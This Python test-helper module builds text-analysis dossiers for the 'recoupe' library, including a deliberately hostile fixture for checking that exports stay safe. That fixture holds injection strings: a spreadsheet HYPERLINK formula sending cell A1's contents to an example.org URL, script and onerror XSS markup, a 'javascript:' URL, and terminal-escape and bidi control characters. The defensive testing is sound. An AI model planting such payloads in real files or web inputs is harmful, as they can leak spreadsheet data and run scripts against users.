"""Dossiers made of analyses made by hand, and what is in a text that wants to be more than text."""

from __future__ import annotations

import io
from pathlib import Path

import msgspec

from recoupe import Analysis, Attitude, Dossier, Form, Item, Original, Span, Stance, Statement, Why
from recoupe.dossier import Basis, Entry
from recoupe.dossier.records import Overlap
from recoupe.exports.dossier import Selection, dossier_exports
from recoupe.model import Actor, ActorKind, Event, Figure, FigureKind, Label
from recoupe.readers import build_document
from tests.making import cut, sample

BASIS = Basis(code="a", model="b", lexicon="c", gazetteer="d")
#: What a stranger may write so that a spreadsheet computes it, a browser runs it, a terminal obeys it.
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"voir")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>{{ 7 * 7 }}&lt;b&gt;\"'"
CONTROLS = "\x00\x07\x1b[31m\x0b\u202e\u2066\ufffe\uffff\u2028"
HOSTILE = f"{FORMULA} dit que {MARKUP} et que {CONTROLS} ; le +33 a tué @deux <r>gras</r>\r\n-et puis rien."


def keep(path: Path, *analyses: Analysis) -> Path:
    """Make a dossier of analyses, in this order."""
    with Dossier(path, create=True) as dossier:
        basis = dossier.basis(BASIS)
        entries = [Entry(item=_item(analysis), analysis=analysis) for analysis in analyses]
        dossier.write(entries, basis)
    return path


def _item(analysis: Analysis) -> Item:
    document = analysis.document
    original = Original(
        data=document.text.encode(),
        media_type="text/plain",
        obtained=document.path or document.id,
        obtained_at="2031-05-02T10:00:00Z",
    )
    return Item(document=document, original=original, key=f"path:{document.path}" if document.path else document.id)


def share(path: Path, a: int, b: int, *passages: tuple[int, int, int, int]) -> None:
    """Note that two documents share passages, and half of the first one's words."""
    with Dossier(path) as dossier:
        placed = tuple((*passage, 12, 0) for passage in passages)
        dossier.write_copies([Overlap(a=a, b=b, containment_a=0.5, containment_b=1.0, passages=placed)], [a, b])


def export(path: Path, format: str, table: str | None = None, **chosen: object) -> bytes:
    """Write a dossier in a format."""
    out = io.BytesIO()
    with Dossier(path) as dossier:
        dossier_exports()[format].write(Selection(dossier, **chosen), out, table)  # pyright: ignore[reportArgumentType]
    return out.getvalue()


def renamed(path: str, analysis: Analysis | None = None, **known: object) -> Analysis:
    """Give the sample, or another analysis, as another document."""
    found = analysis or sample()
    return msgspec.structs.replace(found, document=msgspec.structs.replace(found.document, path=path, **known))


def hostile() -> Analysis:
    """Give an analysis in which every text wants to be more than text."""
    document = build_document(
        HOSTILE, path=f"{MARKUP}.txt", title=FORMULA, outlet=f"@{MARKUP}", url="javascript:alert(3)"
    )
    text = document.text
    formula, markup, controls = cut(text, FORMULA), cut(text, MARKUP), cut(text, CONTROLS)
    why = Why(row=MARKUP, rule=MARKUP, steps=(MARKUP,))
    said = Statement(
        id=0,
        content=(markup, controls),
        cue=cut(text, "dit"),
        source=formula,
        origin=FORMULA,
        relays=(MARKUP, f"-{CONTROLS}"),
        form=Form.INDIRECT,
        attitude=Attitude.ASSERT,
        stance=Stance.NEUTRAL,
        why=why,
    )
    plus = cut(text, "+33")
    number = Figure(id=0, start=plus.start, end=plus.end, text=plus.text, value=33, kind=FigureKind.KILLED, why=why)
    rich = cut(text, "<r>gras</r>")
    return Analysis(
        document=document,
        statements=(said,),
        actors=(
            Actor(id=0, name=FORMULA, kind=ActorKind.PERSON, aliases=(MARKUP, CONTROLS), mentions=(formula,), why=why),
        ),
        events=(
            Event(
                id=0,
                type="kill",
                trigger=cut(text, "tué"),
                agent="+33",
                patient="@deux",
                place=MARKUP,
                voice=FORMULA,
                why=why,
            ),
        ),
        figures=(number,),
        labels=(
            Label(
                id=0,
                start=rich.start,
                end=rich.end,
                text=rich.text,
                term=rich.text,
                actor=MARKUP,
                neutral=FORMULA,
                why=why,
            ),
        ),
    )


def plain(text: str, **known: str) -> Analysis:
    """Give a document in which nothing was found."""
    return Analysis(document=build_document(text, **known))


def spans(found: object) -> list[Span]:
    """Give every span in a record, however deep."""
    if isinstance(found, Span):
        return [found]
    if isinstance(found, msgspec.Struct):
        return [span for name in found.__struct_fields__ for span in spans(getattr(found, name))]
    return [span for one in found for span in spans(one)] if isinstance(found, tuple) else []
